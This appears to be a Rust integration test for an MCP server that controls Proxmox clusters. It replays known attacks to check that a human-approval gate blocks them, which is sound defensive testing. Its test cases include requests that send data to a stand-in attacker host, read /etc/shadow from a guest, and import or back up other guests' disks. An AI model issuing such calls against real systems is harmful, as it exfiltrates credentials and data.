//! Issue 20's attacks, replayed through the built binary over stdio with rmcp's client side
//! and a person who always declines: nothing that changes the cluster, copies across guests,
//! executes or sends data off the cluster reaches the emulator — through the generic API
//! call at `read-only`, or through the equivalents that dodged the old per-argument rules.

use crate::approval_common;
use crate::common;

use approval_common::{Answer, Person, call, changes, code, connect_stdio};
use common::{emulator, env_for, schemas, with_policy};
use serde_json::{Value, json};

/// Requests to `path` (GET or not) the emulator received.
fn reached(emu: &pve_emulator::Emulator, path: &str) -> usize {
    emu.requests().iter().filter(|r| r.path == path).count()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_generic_read_cannot_reach_out_or_read_guest_files_at_read_only() {
    let emu = emulator().await;
    // The schema a real 9.1.3 node serves: the generic call checks against it first.
    emu.serve_api_schema(schemas::apidata_9_1_3().to_string());
    let env = with_policy(
        env_for(&emu),
        &[
            ("PVE_ACCESS_TIER", "read-only"),
            ("PVE_MODULE_MODE", "advanced"),
        ],
    );
    let person = Person::new(Answer::Decline);
    let (client, _home) = connect_stdio(person.clone(), &env).await;
    let cases: [(Value, &str, &str); 4] = [
        (
            json!({"path": "/cluster/acme/tos", "params": ["directory=https://data.attacker.example/"], "confirm": true}),
            "/cluster/acme/tos",
            "CONFIRMATION_DECLINED",
        ),
        (
            json!({"path": "/nodes/pve01/query-url-metadata", "params": ["url=https://data.attacker.example/x"], "confirm": true}),
            "/nodes/pve01/query-url-metadata",
            // Needs Sys.Modify or Sys.AccessNetwork: not a read below `full` either.
            "EFFECT_NOT_APPROVED",
        ),
        (
            json!({"path": "/nodes/pve01/scan/nfs", "params": ["server=203.0.113.9"], "confirm": true}),
            "/nodes/pve01/scan/nfs",
            // Also a sensitive read (Datastore.Allocate): refused below `full` before asking.
            "EFFECT_NOT_APPROVED",
        ),
        (
            json!({"path": "/nodes/pve01/qemu/101/agent/file-read", "params": ["file=/etc/shadow"], "confirm": true}),
            "/nodes/pve01/qemu/101/agent/file-read",
            "EFFECT_NOT_APPROVED",
        ),
    ];
    for (args, path, expected) in cases {
        let result = call(&client, "pve_api_call", args.clone()).await;
        assert_eq!(code(&result), expected, "{args}: {result:?}");
        assert_eq!(reached(&emu, path), 0, "{path} reached Proxmox");
    }
    assert!(changes(&emu).is_empty(), "{:?}", changes(&emu));
    // One was put to the person (egress); the other three never got that far.
    assert_eq!(person.questions().len(), 1, "{:?}", person.questions());
    let q = &person.questions()[0];
    assert!(q.contains("egress"), "{q}");
    // A plain read still goes through unasked.
    let version = call(&client, "pve_api_call", json!({"path": "/version"})).await;
    assert_ne!(version.is_error, Some(true), "{version:?}");
    assert_eq!(person.questions().len(), 1);
    client.cancel().await.ok();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn equivalents_of_gated_arguments_are_asked_and_send_nothing_when_declined() {
    let emu = emulator().await;
    // The schema a real 9.1.3 node serves: the generic call checks against it first.
    emu.serve_api_schema(schemas::apidata_9_1_3().to_string());
    let env = with_policy(
        env_for(&emu),
        &[("PVE_ACCESS_TIER", "full"), ("PVE_MODULE_MODE", "advanced")],
    );
    let person = Person::new(Answer::Decline);
    let (client, _home) = connect_stdio(person.clone(), &env).await;
    let dodges: [(&str, Value, &str); 11] = [
        (
            "pve_qemu_create",
            json!({"node": "pve01", "vmid": 150, "onboot": true}),
            "change",
        ),
        (
            "pve_start_qemu_vm",
            json!({"node": "pve01", "vmid": 101}),
            "change",
        ),
        (
            "pve_qemu_create",
            json!({"node": "pve01", "vmid": 151, "scsi0": "local-lvm:vm-100-disk-0"}),
            "cross-guest",
        ),
        (
            "pve_qemu_create",
            json!({"node": "pve01", "vmid": 152, "scsi0": "local-lvm:0,import-from=local-lvm:vm-100-disk-0"}),
            "cross-guest",
        ),
        (
            "pve_lxc_create",
            json!({"node": "pve01", "vmid": 250, "ostemplate": "local:vztmpl/debian-12.tar.zst", "rootfs": "local-lvm:vm-200-disk-0", "unprivileged": true}),
            "cross-guest",
        ),
        (
            "pve_qemu_clone",
            json!({"node": "pve01", "vmid": 101, "newid": 153, "full": true}),
            "cross-guest",
        ),
        (
            "pve_run_backup",
            json!({"node": "pve01", "vmid": "100,101,102", "remove": false}),
            "cross-guest",
        ),
        (
            "pve_run_backup",
            json!({"node": "pve01", "pool": "prod", "remove": false}),
            "cross-guest",
        ),
        (
            "pve_run_backup",
            json!({"node": "pve01", "vmid": "101", "remove": true}),
            "destroy",
        ),
        // A linked clone is routine only from a template: of a running guest it is asked.
        (
            "pve_qemu_clone",
            json!({"node": "pve01", "vmid": 101, "newid": 154}),
            "not a template",
        ),
        // A routine start of a guest tagged prod is asked, the fact named.
        (
            "pve_start_qemu_vm",
            json!({"node": "pve03", "vmid": 102}),
            "tagged prod",
        ),
    ];
    for (tool, args, effect) in dodges {
        let before = person.questions().len();
        let mut with_confirm = args.clone();
        with_confirm["confirm"] = json!(true);
        let result = call(&client, tool, with_confirm).await;
        assert_eq!(
            code(&result),
            "CONFIRMATION_DECLINED",
            "{tool} {args}: {result:?}"
        );
        let questions = person.questions();
        assert_eq!(questions.len(), before + 1, "{tool} {args} was not asked");
        let q = &questions[before];
        assert!(
            q.contains(effect),
            "{tool} {args}: the question does not say {effect}: {q}"
        );
        assert!(
            changes(&emu).is_empty(),
            "{tool} {args}: {:?}",
            changes(&emu)
        );
    }
    client.cancel().await.ok();
}
